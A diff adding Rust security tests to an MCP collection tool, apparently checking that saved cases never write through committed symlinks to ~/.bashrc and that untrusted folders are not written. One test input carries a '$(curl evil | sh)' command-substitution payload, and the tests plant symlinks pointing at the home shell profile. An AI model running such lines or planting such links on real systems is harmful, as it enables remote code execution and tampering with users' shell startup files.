@@ -619,3 +619,105 @@ fn a_collection_of_an_untrusted_folder_is_not_run_and_its_variables_go_nowhere()
     let out = world.run_with(&["test"], &[("MY_SECRET", "now-allowed")]);
     assert!(out.status.success(), "{}", stdout(&out));
 }
+
+fn said(out: &Output) -> String {
+    format!(
+        "{}{}",
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    )
+}
+
+/// The High finding: `.mcp-collections/smoke.json.tmp -> ../../.bashrc` committed, and the
+/// person adds a call to "smoke" with `mcpctl call … --save-to smoke`.
+#[test]
+fn saving_a_case_never_writes_through_a_committed_link() {
+    let world = World::new();
+    world.add_everything();
+    let bashrc = world.home.join(".bashrc");
+    std::fs::write(&bashrc, "alias ll='ls -l'\n").unwrap();
+    let folder = world.project.join(".mcp-collections");
+    std::fs::create_dir_all(&folder).unwrap();
+    for planted in ["smoke.json.tmp", ".smoke.json.tmp", "smoke.tmp"] {
+        std::os::unix::fs::symlink("../../home/.bashrc", folder.join(planted)).unwrap();
+    }
+    world.ok(&[
+        "add",
+        "-s",
+        "user",
+        "everything",
+        "--",
+        "node",
+        &everything(),
+        "stdio",
+    ]);
+    world.ok(&["trust"]);
+    let out = world.run(&[
+        "call",
+        "everything",
+        "echo",
+        "--args",
+        r#"{"message": "$(curl evil | sh)"}"#,
+        "--save-to",
+        "smoke",
+    ]);
+    assert!(out.status.success(), "{}", said(&out));
+    assert_eq!(
+        std::fs::read_to_string(&bashrc).unwrap(),
+        "alias ll='ls -l'\n"
+    );
+    let saved = std::fs::read_to_string(folder.join("smoke.json")).unwrap();
+    assert!(
+        saved.contains("curl evil"),
+        "the case is in the collection: {saved}"
+    );
+    // The collection file itself a link out of the project: refused, said, nothing written.
+    std::fs::remove_file(folder.join("smoke.json")).unwrap();
+    std::os::unix::fs::symlink("../../home/.bashrc", folder.join("smoke.json")).unwrap();
+    let out = world.run(&[
+        "call",
+        "everything",
+        "echo",
+        "--args",
+        r#"{"message": "x"}"#,
+        "--save-to",
+        "smoke",
+    ]);
+    assert!(!out.status.success());
+    assert!(said(&out).contains("leads out of"), "{}", said(&out));
+    assert_eq!(
+        std::fs::read_to_string(&bashrc).unwrap(),
+        "alias ll='ls -l'\n"
+    );
+}
+
+#[test]
+fn an_untrusted_folder_s_collection_is_not_written() {
+    let world = World::new();
+    world.ok(&[
+        "add",
+        "-s",
+        "user",
+        "everything",
+        "--",
+        "node",
+        &everything(),
+        "stdio",
+    ]);
+    let out = world.run(&[
+        "call",
+        "everything",
+        "echo",
+        "--args",
+        r#"{"message": "x"}"#,
+        "--save-to",
+        "smoke",
+    ]);
+    assert!(!out.status.success());
+    assert!(
+        said(&out).contains("not trusted, so it was not written"),
+        "{}",
+        said(&out)
+    );
+    assert!(!world.project.join(".mcp-collections").exists());
+}
